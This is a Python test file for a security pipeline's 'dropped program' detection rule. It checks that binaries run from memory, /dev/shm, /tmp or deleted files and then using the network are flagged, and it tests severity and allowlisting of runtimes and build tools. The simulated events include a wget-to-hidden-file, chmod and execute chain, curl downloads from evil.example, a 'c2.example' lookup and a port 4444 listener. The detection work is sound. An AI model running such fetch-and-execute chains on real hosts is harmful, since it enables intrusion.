# SPDX-License-Identifier: Apache-2.0
"""nsp.dropped-program: from memory, from where anybody writes, staged by a download; and what builds do."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from stream_apps.detect.downloads import is_one_of, written_by
from tests.support.batches import SECOND, Node
from tests.support.stream import rules, run, whole_pipeline

if TYPE_CHECKING:
    from stream_apps.pipeline import Pipeline

RULE = "nsp.dropped-program"
EVIL = "203.0.113.9"


def severities(node: Node, through: Pipeline | None = None) -> list[str]:
    return [severity for rule, severity in rules(run(node, through or whole_pipeline())) if rule == RULE]


def job(node: Node) -> int:
    """A container's program that serves nobody."""
    return node.service("/app/job", serving=False)


@pytest.mark.parametrize(
    ("executable", "fields", "alone", "below"),
    [
        ("memfd:x", {"deleted": True}, "HIGH", "CRITICAL"),
        ("/opt/x (deleted)", {"deleted": True}, "HIGH", "CRITICAL"),
        ("/dev/shm/x", {}, "HIGH", "CRITICAL"),
        ("/tmp/x", {}, "MEDIUM", "HIGH"),
        ("/var/tmp/.y/x", {}, "MEDIUM", "HIGH"),
    ],
)
@pytest.mark.parametrize("way", ["connect", "ask", "send", "listen", "refuse"])
def test_a_dropped_program_that_uses_the_network_is_told(
    executable: str, fields: dict[str, bool], alone: str, below: str, way: str
) -> None:
    for served, severity in ((False, alone), (True, below)):
        node = Node()
        actor = node.spawn(node.service("/app/job", serving=served), executable)
        node.images[actor].update(fields)
        use_network(node, actor, way)
        assert severities(node) == [severity]


def use_network(node: Node, actor: int, way: str) -> None:
    if way == "connect":
        node.connect(actor, EVIL, 443)
    elif way == "ask":
        node.ask(actor, "c2.example")
    elif way == "send":
        node.send(actor, EVIL, 443)
    elif way == "listen":
        node.listen(actor, 4444)
    else:
        node.refuse(actor, EVIL, 443)


def test_what_it_starts_counts_and_the_dropped_program_is_named() -> None:
    node = Node()
    actor = node.spawn(node.fork(node.spawn(job(node), "/dev/shm/x")), "/usr/bin/curl")
    node.connect(actor, EVIL, 443)
    [alert] = [each for each in run(node, whole_pipeline()).alerts if each["rule_id"] == RULE]
    assert "/dev/shm" in alert["description"]
    assert [each["role"] for each in alert["lineage"] if each["executable"] == "/dev/shm/x"]


def test_what_it_forks_is_its_tree_and_its_launcher_excuses_that_too() -> None:
    node = Node()
    dropped = node.spawn(job(node), "/dev/shm/x")
    node.connect(node.fork(node.fork(dropped)), EVIL, 443)
    [alert] = [each for each in run(node, whole_pipeline()).alerts if each["rule_id"] == RULE]
    roles = {(each["tgid"], each["role"]) for each in alert["lineage"]}
    assert (node.images[dropped]["tgid"], "cut-root") in roles
    node = Node()
    test = node.spawn(node.spawn(job(node), "/usr/local/go/bin/go"), "/tmp/go-build1/x.test")
    node.connect(node.fork(test), EVIL, 443)
    assert severities(node) == []


def test_without_the_network_or_inside_the_own_workload_it_is_nobodys_business() -> None:
    node = Node()
    actor = node.spawn(job(node), "/tmp/conftest")
    node.connect(actor, "127.0.0.1", 80)
    assert severities(node) == []


def test_a_daemon_whose_package_was_upgraded_is_not_dropped() -> None:
    node = Node()
    old = node.service("/usr/sbin/chronyd", deleted=True, origin="INVENTORY", serving=False)
    node.connect(old, EVIL, 443)
    assert severities(node) == []


def test_a_container_runtimes_copy_of_itself_is_not_dropped_and_its_name_alone_excuses_nothing() -> None:
    node = Node()
    runtime = node.spawn(job(node), "/usr/bin/runc", ["runc", "init"])
    copy = node.exec(runtime, "memfd:runc_cloned:/proc/self/exe", deleted=True)
    node.connect(node.exec(copy, "/app/server"), EVIL, 443)
    assert severities(node) == []
    named = node.spawn(job(node), "memfd:runc_cloned:/proc/self/exe", deleted=True)
    node.connect(named, EVIL, 443)
    assert severities(node) == ["HIGH"]


def test_a_staged_payload_is_told_wherever_it_lies() -> None:
    node = Node()
    shell = node.spawn(node.service("/usr/sbin/nginx"), "/usr/bin/dash")
    node.spawn(shell, "/usr/bin/wget", ["wget", "-q", "-O", "/srv/www/.cache", "http://203.0.113.9/p"])
    node.spawn(shell, "/usr/bin/chmod", ["chmod", "+x", "/srv/www/.cache"])
    payload = node.spawn(shell, "/srv/www/.cache")
    node.connect(payload, EVIL, 443)
    assert severities(node) == ["HIGH"]


def test_a_staged_payload_is_told_over_batches_and_only_for_a_while_and_only_there() -> None:
    for later_s, workload, told in ((60, 1, ["MEDIUM"]), (3600, 1, []), (60, 0, [])):
        node, through = Node(), whole_pipeline()
        shell = job(node)
        node.spawn(shell, "/usr/bin/curl", ["curl", "-fsSo", "/opt/t", "https://evil.example/t"])
        node.spawn(shell, "/usr/bin/curl", ["curl", "-o", "/opt/tool", "https://evil.example/t"])
        assert severities(node, through) == []
        node.now_ns += later_s * SECOND
        elsewhere = node.service("/app/other", serving=False, workload=workload)
        node.connect(node.spawn(elsewhere, "/opt/tool"), EVIL, 443)
        assert severities(node, through) == told


def test_a_downloaded_script_is_told_less() -> None:
    node = Node()
    shell = job(node)
    node.spawn(shell, "/usr/bin/wget", ["wget", "https://get.example/install.sh"])
    script = node.spawn(shell, "/usr/bin/bash", ["bash", "-x", "./install.sh"])
    node.connect(node.spawn(script, "/usr/bin/git"), EVIL, 443)
    assert severities(node) == ["LOW"]


def test_memory_of_downloads_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("stream_apps.detect.dropped_program.MAX_WORKLOADS", 10)
    through = whole_pipeline()
    node = Node(workloads=[{"id": f"w{each}", **_bare()} for each in range(30)])
    for each in range(30):
        starter = node.service("/app/job", serving=False, workload=each)
        node.spawn(starter, "/usr/bin/wget", ["wget", "http://x.example/y"])
    run(node, through)
    figures = through.metrics()
    assert figures["detect", "dropped_program_workloads_now"] == 10
    assert figures["detect", "dropped_program_evicted"] == 20


def _bare() -> dict[str, object]:
    return {
        "kind": "POD", "cgroup_id": 1, "cgroup_path": "", "pod_uid": None, "container_id": None, "unit": None,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("curl http://x/a", ()),
        ("curl -o /tmp/a http://x/b", ("/tmp/a",)),
        ("curl -sO http://x/b?v=1", ("b",)),
        ("curl --output=/tmp/a http://x/b", ("/tmp/a",)),
        ("wget http://x/b", ("b",)),
        ("wget -P /tmp http://x/b", ("/tmp/b",)),
        ("wget -O- http://x/b", ("b",)),
        ("wget -O - http://x/", ()),
        ("scp host:x /opt/y", ("/opt/y",)),
    ],
)
def test_what_a_command_line_writes(command: str, files: tuple[str, ...]) -> None:
    assert written_by(command.split()) == files


def test_an_installed_program_is_no_download_of_the_same_name() -> None:
    assert not is_one_of("/usr/bin/bash", ["bash"])
    assert is_one_of("/home/u/bash", ["bash"])
    assert is_one_of("/opt/in/b", ["/opt/in/"])
    assert not is_one_of("/opt/inner/b", ["/opt/in"])
